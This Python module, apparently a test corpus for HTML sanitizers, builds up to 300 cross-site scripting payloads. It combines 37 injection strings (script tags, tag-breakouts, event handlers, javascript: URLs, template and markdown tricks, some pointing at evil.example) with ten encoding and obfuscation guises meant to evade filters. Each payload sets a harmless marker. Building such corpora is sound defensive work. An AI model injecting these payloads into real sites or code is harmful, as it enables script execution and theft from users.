"""Three hundred things that are text and want to be more: markup, in every guise that once worked somewhere."""

from __future__ import annotations

from html import escape
from urllib.parse import quote

MARK = "stolen"  # what each would set on the page, were it to run
RUN = f"window.{MARK}=1"
PLAIN = (
    f"<script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<base href=//evil.example/><script src=x>{RUN}</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"{{{{ {RUN} }}}}",
    f"{{% load x %}}{{% {RUN} %}}",
    f"<div hx-get=//evil.example hx-trigger=load hx-on:load={RUN}>x</div>",
    f"[x](javascript:{RUN})",
    f"![x](x){{onerror={RUN}}}",
    f"<input type=image src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f'"/><b onmouseover={RUN} style=position:fixed;inset:0>x</b>',
    f"';{RUN};//",
    f"`;{RUN};`",
)
GUISES = (
    lambda text: text,
    str.upper,
    escape,
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("script", "scr\u200bipt"),
    lambda text: text.replace("<", "<\t").replace(" on", "\non"),
    lambda text: "".join(f"&#x{ord(letter):x};" for letter in text),
    lambda text: f"\u202e{text}\u202c",
    lambda text: text.replace("<", "&lt").replace("<s", "<<s"),
)
PAYLOADS = tuple(dict.fromkeys(dress(text) for text in PLAIN for dress in GUISES))[:300]
